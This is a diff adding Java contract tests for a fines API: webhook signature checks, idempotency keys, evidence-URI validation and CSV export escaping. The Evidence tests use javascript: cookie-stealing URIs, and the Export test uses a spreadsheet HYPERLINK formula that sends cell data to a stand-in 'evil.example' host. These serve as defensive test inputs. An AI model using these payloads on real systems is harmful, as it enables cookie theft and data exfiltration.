@@ -33,6 +33,29 @@ import com.finehero.api.fines.v1.PayFineResponse;
 import com.finehero.api.fines.v1.ResolveContestRequest;
 import com.finehero.api.fines.v1.UpdateFineRequest;
 import com.finehero.server.testing.FineHeroExtension;
+import com.finehero.server.testing.RestCalls;
+import com.finehero.server.testing.TestPaymentProvider;
+import com.finehero.server.testing.TestSession;
+import com.finehero.server.tasks.TaskRules;
+import com.finehero.api.auth.v1.AuditEvent;
+import com.finehero.api.auth.v1.AuthServiceGrpc;
+import com.finehero.api.auth.v1.ListAuditEventsRequest;
+import com.finehero.api.auth.v1.Role;
+import com.finehero.api.documents.v1.DocumentsServiceGrpc;
+import com.finehero.api.documents.v1.GetDocumentRequest;
+import com.finehero.api.fines.v1.ConfirmPaymentRequest;
+import com.finehero.api.fines.v1.ConfirmPaymentResponse;
+import com.finehero.api.fines.v1.PaymentStatus;
+import com.finehero.api.tasks.v1.GetTaskRequest;
+import com.finehero.api.tasks.v1.SubmitTaskRequest;
+import com.finehero.api.tasks.v1.Task;
+import com.finehero.api.tasks.v1.TaskState;
+import com.finehero.api.tasks.v1.TasksServiceGrpc;
+import com.google.protobuf.Struct;
+import com.google.protobuf.Value;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import org.awaitility.Awaitility;
 import com.google.protobuf.FieldMask;
 import com.google.protobuf.Timestamp;
 import io.grpc.Status.Code;
@@ -624,6 +647,317 @@ abstract class FinesContractTest {
             Fine fine = create("PAY-7");
             StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> pay(fine, "short", 4550));
             assertThat(violatedFields(e)).containsExactly("idempotency_key");
+        }
+    }
+
+    /** Payments by viewers wait for the provider; the provider's signed webhook confirms them. */
+    @Nested
+    class ProviderConfirmation {
+        TestPaymentProvider provider;
+        TestSession viewer;
+        FinesServiceGrpc.FinesServiceBlockingStub viewerFines;
+
+        @BeforeEach
+        void viewer() {
+            provider = new TestPaymentProvider(app());
+            viewer = app().userWith(Role.ROLE_VIEWER);
+            viewerFines = FinesServiceGrpc.newBlockingStub(viewer.channel()).withDeadlineAfter(Duration.ofSeconds(20));
+        }
+
+        Fine ownedBy(TestSession owner, String citation) {
+            return fines.createFine(CreateFineRequest.newBuilder().setFine(draft(citation).setOwnerId(owner.userId())).build());
+        }
+
+        PayFineResponse payAs(FinesServiceGrpc.FinesServiceBlockingStub stub, Fine fine, String key) {
+            return stub.payFine(PayFineRequest.newBuilder()
+                    .setFineId(fine.getId()).setIdempotencyKey(key).setAmount(fine.getAmount()).build());
+        }
+
+        /** Refused confirmation calls of this payment as the audit log has them: their outcomes. */
+        List<String> auditedConfirmations(String paymentId) {
+            return AuthServiceGrpc.newBlockingStub(app().channel()).withDeadlineAfter(Duration.ofSeconds(20))
+                    .listAuditEvents(ListAuditEventsRequest.newBuilder().setMethod("ConfirmPayment").setPageSize(500).build())
+                    .getEventsList().stream()
+                    .filter(event -> event.getResource().equals(paymentId))
+                    .map(AuditEvent::getOutcome).toList();
+        }
+
+        @Test
+        void viewersPaymentIsPendingAndTheFineStaysPayable() {
+            Fine fine = ownedBy(viewer, "PC-1");
+            PayFineResponse paid = payAs(viewerFines, fine, "key-pc1-" + UUID.randomUUID());
+
+            assertThat(paid.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_PENDING_CONFIRMATION);
+            assertThat(paid.getPayment().hasConfirmTime()).isFalse();
+            assertThat(paid.getFine()).isEqualTo(fine);
+            assertThat(get(fine.getId())).isEqualTo(fine);
+            assertThat(fine.getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);
+        }
+
+        @Test
+        void signedConfirmationMakesTheFinePaid() {
+            Fine fine = ownedBy(viewer, "PC-2");
+            String key = "key-pc2-" + UUID.randomUUID();
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, key).getPayment();
+
+            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
+            ConfirmPaymentResponse confirmed = provider.confirm(confirmation, provider.signature(confirmation));
+
+            assertThat(confirmed.getReplayed()).isFalse();
+            assertThat(confirmed.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
+            assertThat(confirmed.getPayment().getReference()).isEqualTo(confirmation.getProviderReference());
+            Fine now = get(fine.getId());
+            assertThat(now.getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
+            assertThat(now.getPayment()).isEqualTo(confirmed.getPayment());
+            // the viewer retrying their call now sees the confirmed payment and the paid fine
+            PayFineResponse retried = payAs(viewerFines, fine, key);
+            assertThat(retried.getReplayed()).isTrue();
+            assertThat(retried.getPayment()).isEqualTo(confirmed.getPayment());
+            assertThat(retried.getFine()).isEqualTo(now);
+        }
+
+        @Test
+        void redeliveredAndSecondConfirmationsChangeNothing() {
+            Fine fine = ownedBy(viewer, "PC-3");
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc3-" + UUID.randomUUID()).getPayment();
+            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
+            com.finehero.api.fines.v1.Payment confirmed = provider.confirm(confirmation, provider.signature(confirmation)).getPayment();
+            Fine paid = get(fine.getId());
+
+            // the provider delivering the same confirmation again, signed anew a little later
+            app().clock().advance(Duration.ofSeconds(3));
+            ConfirmPaymentResponse redelivered = provider.confirm(confirmation, provider.signature(confirmation));
+            ConfirmPaymentResponse another = provider.confirm(pending);
+
+            assertThat(redelivered.getReplayed()).isTrue();
+            assertThat(redelivered.getPayment()).isEqualTo(confirmed);
+            assertThat(another.getReplayed()).isTrue();
+            assertThat(another.getPayment()).isEqualTo(confirmed);
+            assertThat(get(fine.getId())).isEqualTo(paid);
+        }
+
+        @Test
+        void confirmationAfterTheFineWasPaidOtherwiseIsUnapplied() {
+            Fine fine = ownedBy(viewer, "PC-4");
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc4-" + UUID.randomUUID()).getPayment();
+            Fine paidAtTheCounter = pay(fine, "key-pc4-staff-" + UUID.randomUUID(), 4550).getFine();
+
+            ConfirmPaymentResponse late = provider.confirm(pending);
+
+            assertThat(late.getReplayed()).isFalse();
+            assertThat(late.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_UNAPPLIED);
+            assertThat(get(fine.getId())).isEqualTo(paidAtTheCounter);
+            assertThat(provider.confirm(pending).getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_UNAPPLIED);
+        }
+
+        @Test
+        void staffRecordPaymentsConfirmedAtOnce() {
+            TestSession partner = app().userWith(Role.ROLE_API_USER);
+            Fine fine = ownedBy(viewer, "PC-5");
+            PayFineResponse recorded = payAs(FinesServiceGrpc.newBlockingStub(partner.channel()), fine, "key-pc5-" + UUID.randomUUID());
+
+            assertThat(recorded.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
+            assertThat(recorded.getPayment().getConfirmTime()).isEqualTo(recorded.getPayment().getPaidTime());
+            assertThat(recorded.getFine().getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
+            assertThat(pay(create("PC-5B"), "key-pc5b-" + UUID.randomUUID(), 4550).getPayment().getStatus())
+                    .as("an admin's payment").isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
+        }
+
+        @Test
+        void idempotencyKeysBelongToTheirCaller() {
+            TestSession other = app().userWith(Role.ROLE_VIEWER);
+            FinesServiceGrpc.FinesServiceBlockingStub otherFines = FinesServiceGrpc.newBlockingStub(other.channel());
+            String key = "key-pc6-" + UUID.randomUUID();
+            com.finehero.api.fines.v1.Payment mine = payAs(viewerFines, ownedBy(viewer, "PC-6"), key).getPayment();
+
+            PayFineResponse theirs = payAs(otherFines, ownedBy(other, "PC-6B"), key);
+
+            assertThat(theirs.getReplayed()).isFalse();
+            assertThat(theirs.getPayment().getId()).isNotEqualTo(mine.getId());
+            // staff using the same key pay their own way and never get the viewer's payment back
+            Fine shared = ownedBy(viewer, "PC-6C");
+            com.finehero.api.fines.v1.Payment viewers = payAs(viewerFines, shared, key + "-c").getPayment();
+            PayFineResponse admins = pay(shared, key + "-c", 4550);
+            assertThat(admins.getReplayed()).isFalse();
+            assertThat(admins.getPayment().getId()).isNotEqualTo(viewers.getId());
+        }
+
+        @Test
+        void forgedSignatureIsRefusedAndAudited() {
+            Fine fine = ownedBy(viewer, "PC-7");
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc7-" + UUID.randomUUID()).getPayment();
+            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
+            String wrongSecret = TestPaymentProvider.signature(confirmation, now(), "not-the-secret-but-just-as-long-0123456");
+            String forOtherFields = provider.signature(confirmation.toBuilder().setProviderReference("other").build());
+
+            StatusRuntimeException forged = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, wrongSecret));
+            StatusRuntimeException altered = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, forOtherFields));
+            StatusRuntimeException missing = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, null));
+            StatusRuntimeException garbage = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, "t=soon,v1=zz"));
+
+            assertThat(List.of(reason(forged), reason(altered), reason(missing), reason(garbage)))
+                    .containsExactly("SIGNATURE_MISMATCH", "SIGNATURE_MISMATCH", "SIGNATURE_MISSING", "SIGNATURE_MALFORMED");
+            assertThat(garbage.getStatus().getDescription()).contains("t=soon,v1=zz").contains("expected t=<unix seconds>");
+            assertThat(get(fine.getId())).isEqualTo(fine);
+            assertThat(auditedConfirmations(pending.getId())).containsExactly(
+                    "UNAUTHENTICATED", "UNAUTHENTICATED", "UNAUTHENTICATED", "UNAUTHENTICATED");
+        }
+
+        @Test
+        void staleSignatureIsRefusedAndAudited() {
+            Fine fine = ownedBy(viewer, "PC-8");
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc8-" + UUID.randomUUID()).getPayment();
+            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
+            String old = TestPaymentProvider.signature(confirmation, now().minus(Duration.ofMinutes(6)), TestPaymentProvider.SECRET);
+            String future = TestPaymentProvider.signature(confirmation, now().plus(Duration.ofMinutes(6)), TestPaymentProvider.SECRET);
+
+            assertThat(reason(failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, old)))).isEqualTo("SIGNATURE_STALE");
+            assertThat(reason(failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, future)))).isEqualTo("SIGNATURE_STALE");
+            assertThat(get(fine.getId())).isEqualTo(fine);
+            assertThat(auditedConfirmations(pending.getId())).containsExactly("UNAUTHENTICATED", "UNAUTHENTICATED");
+            // within the window it is accepted
+            String recent = TestPaymentProvider.signature(confirmation, now().minus(Duration.ofMinutes(4)), TestPaymentProvider.SECRET);
+            assertThat(provider.confirm(confirmation, recent).getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
+        }
+
+        @Test
+        void replayedSignatureIsRefusedAndAudited() {
+            Fine fine = ownedBy(viewer, "PC-9");
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc9-" + UUID.randomUUID()).getPayment();
+            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
+            String signature = provider.signature(confirmation);
+            provider.confirm(confirmation, signature);
+            Fine paid = get(fine.getId());
+
+            StatusRuntimeException replayed = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, signature));
+
+            assertThat(reason(replayed)).isEqualTo("SIGNATURE_REPLAYED");
+            assertThat(get(fine.getId())).isEqualTo(paid);
+            assertThat(auditedConfirmations(pending.getId())).containsExactlyInAnyOrder("OK", "UNAUTHENTICATED");
+        }
+
+        @Test
+        void confirmationOfAnotherAmountIsRefused() {
+            Fine fine = ownedBy(viewer, "PC-10");
+            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc10-" + UUID.randomUUID()).getPayment();
+            ConfirmPaymentRequest less = provider.confirmationOf(pending).toBuilder().setAmount(usd(100)).build();
+
+            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> provider.confirm(less, provider.signature(less)));
+
+            assertThat(e.getStatus().getDescription()).contains("1.00 USD").contains("45.50 USD");
+            assertThat(get(fine.getId())).isEqualTo(fine);
+        }
+
+        @Test
+        void finesWithPendingPaymentsAreKept() {
+            Fine fine = ownedBy(viewer, "PC-11");
+            payAs(viewerFines, fine, "key-pc11-" + UUID.randomUUID());
+            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION,
+                    () -> fines.deleteFine(DeleteFineRequest.newBuilder().setFineId(fine.getId()).build()));
+            assertThat(reason(e)).isEqualTo("FINE_HAS_PAYMENTS");
+        }
+
+        @Test
+        void overRestViewerPaysAndTheProviderConfirms() {
+            Fine fine = ownedBy(viewer, "PC-12");
+            HttpResponse<String> paid = app().send(HttpRequest.newBuilder(app().uri("/v1/fines/" + fine.getId() + ":pay"))
+                    .header("authorization", "Bearer " + viewer.accessToken())
+                    .header("Content-Type", "application/json")
+                    .POST(HttpRequest.BodyPublishers.ofString("{\"idempotency_key\": \"key-pc12-" + UUID.randomUUID()
+                            + "\", \"amount\": {\"currency_code\": \"USD\", \"amount_minor\": 4550}}")).build());
+            assertThat(paid.statusCode()).as(paid.body()).isEqualTo(200);
+            com.finehero.api.fines.v1.Payment pending = RestCalls.parse(paid, PayFineResponse.getDefaultInstance()).getPayment();
+            assertThat(pending.getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_PENDING_CONFIRMATION);
+            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
+
+            HttpResponse<String> forged = provider.confirmOverRest(confirmation,
+                    TestPaymentProvider.signature(confirmation, now(), "not-the-secret-but-just-as-long-0123456"));
+            HttpResponse<String> unsigned = provider.confirmOverRest(confirmation, null);
+            String signature = provider.signature(confirmation);
+            HttpResponse<String> confirmed = provider.confirmOverRest(confirmation, signature);
+            HttpResponse<String> replayed = provider.confirmOverRest(confirmation, signature);
+
+            assertThat(forged.statusCode()).as(forged.body()).isEqualTo(401);
+            assertThat(unsigned.statusCode()).as(unsigned.body()).isEqualTo(401);
+            assertThat(confirmed.statusCode()).as(confirmed.body()).isEqualTo(200);
+            assertThat(RestCalls.parse(confirmed, ConfirmPaymentResponse.getDefaultInstance()).getPayment().getStatus())
+                    .isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
+            assertThat(replayed.statusCode()).as(replayed.body()).isEqualTo(401);
+            assertThat(replayed.body()).contains("SIGNATURE_REPLAYED");
+            assertThat(get(fine.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
+            assertThat(auditedConfirmations(pending.getId())).containsExactlyInAnyOrder(
+                    "UNAUTHENTICATED", "UNAUTHENTICATED", "OK", "UNAUTHENTICATED");
+        }
+    }
+
+    @Nested
+    class Evidence {
+        @Test
+        void onlyHttpsEvidenceIsAccepted() {
+            Fine fine = create("EV-1");
+            for (String uri : List.of("javascript:alert(document.cookie)", "http://evidence.example/photo.jpg", "data:text/html,hi")) {
+                StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.contestFine(ContestFineRequest.newBuilder()
+                        .setFineId(fine.getId())
+                        .setReason("The bus zone sign was covered by a tree.")
+                        .addEvidenceUris("https://evidence.example/photo-1.jpg")
+                        .addEvidenceUris(uri)
+                        .build()));
+                assertThat(violatedFields(e)).as(uri).containsExactly("evidence_uris[1]");
+                assertThat(e.getStatus().getDescription()).as(uri)
+                        .contains("must be an https URI (scheme found: " + uri.substring(0, uri.indexOf(':')) + ")");
+            }
+            assertThat(get(fine.getId())).isEqualTo(fine);
+            assertThat(contest(fine).getContest().getEvidenceUrisList()).containsExactly("https://evidence.example/photo-1.jpg");
+        }
+
+        @Test
+        void overRestTheFieldAndSchemeAreNamed() {
+            Fine fine = create("EV-2");
+            HttpResponse<String> response = app().send(HttpRequest.newBuilder(app().uri("/v1/fines/" + fine.getId() + ":contest"))
+                    .header("Content-Type", "application/json")
+                    .POST(HttpRequest.BodyPublishers.ofString("{\"reason\": \"The sign was covered by a tree.\","
+                            + " \"evidence_uris\": [\"javascript:alert(1)\"]}")).build());
+            assertThat(response.statusCode()).isEqualTo(400);
+            assertThat(response.body()).contains("evidence_uris[0]").contains("scheme found: javascript");
+        }
+    }
+
+    @Nested
+    class Export {
+        @Test
+        void formulaCellsAreNeutralisedAndImportBack() {
+            String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+            fines.createFine(CreateFineRequest.newBuilder().setFine(draft("EX-1").setViolationDescription(formula)
+                    .setOwnerId("@owner")).build());
+            TasksServiceGrpc.TasksServiceBlockingStub tasks = TasksServiceGrpc.newBlockingStub(app().channel())
+                    .withDeadlineAfter(Duration.ofSeconds(20));
+
+            Task export = finished(tasks, tasks.submitTask(SubmitTaskRequest.newBuilder().setType("fines_export")
+                    .setPayload(Struct.newBuilder().putFields("jurisdiction", Value.newBuilder().setStringValue(jurisdiction).build()))
+                    .build()));
+            assertThat(export.getState()).as(export.getLastError()).isEqualTo(TaskState.TASK_STATE_SUCCEEDED);
+            String csv = DocumentsServiceGrpc.newBlockingStub(app().channel()).getDocument(GetDocumentRequest.newBuilder()
+                    .setDocumentId(export.getResult().getFieldsOrThrow("document_id").getStringValue()).build()).getContent();
+
+            assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",")
+                    .contains(",'@owner,").doesNotContain(",=").doesNotContain(",@");
+
+            // the export imports back to the same values, under another jurisdiction
+            String elsewhere = jurisdiction + "-B";
+            Task imported = finished(tasks, tasks.submitTask(SubmitTaskRequest.newBuilder().setType("fine_import")
+                    .setPayload(Struct.newBuilder().putFields("csv", Value.newBuilder()
+                            .setStringValue(csv.replace("," + jurisdiction + ",", "," + elsewhere + ",")).build())).build()));
+            assertThat(imported.getState()).as(imported.getLastError()).isEqualTo(TaskState.TASK_STATE_SUCCEEDED);
+            Fine copy = fines.listFines(ListFinesRequest.newBuilder().setJurisdiction(elsewhere).build()).getFines(0);
+            assertThat(copy.getViolationDescription()).isEqualTo(formula);
+            assertThat(copy.getOwnerId()).isEqualTo("@owner");
+        }
+
+        private Task finished(TasksServiceGrpc.TasksServiceBlockingStub tasks, Task submitted) {
+            GetTaskRequest get = GetTaskRequest.newBuilder().setTaskId(submitted.getId()).build();
+            Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(25))
+                    .until(() -> TaskRules.finished(tasks.getTask(get).getState()));
+            return tasks.getTask(get);
         }
     }
 
